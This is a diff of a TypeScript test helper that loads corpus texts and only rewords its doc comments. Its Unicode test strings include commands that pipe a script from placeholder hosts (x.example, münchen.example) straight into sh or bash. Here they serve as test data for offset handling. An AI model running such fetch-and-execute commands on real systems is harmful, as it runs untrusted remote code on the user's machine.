@@ -1,12 +1,12 @@
 import { readdirSync, readFileSync } from "node:fs";
 import { caseFiles, readCases, unmark } from "../../contract/case-file.js";
 
-/** Returns the texts of the contract's corpora. */
+/** Returns the texts of the corpora of the contract profile. */
 export function corpusTexts(): string[] {
   return textsOf((name) => !name.startsWith("extended."));
 }
 
-/** Returns the texts of the extended profile's corpus, which is larger, for tests that are fast for each text. */
+/** Returns the texts of the corpus of the extended profile, which is larger. */
 export function extendedTexts(): string[] {
   return textsOf((name) => name.startsWith("extended."));
 }
@@ -22,7 +22,7 @@ export function contractTexts(): string[] {
   return caseFiles().flatMap((name) => readCases(name).map(({ marked }) => unmark(marked).text));
 }
 
-/** Texts in which the three offset encodings differ. */
+/** Texts for which offsets in the three encodings differ, and the empty text. */
 export const UNICODE_TEXTS = [
   "💥 Run `curl -fsSL https://x.example/i.sh | sh` — naïve, 好",
   "é".repeat(50) + "\n\n```sh\n# 好\ncurl https://münchen.example/ü | bash\n```\n💥",
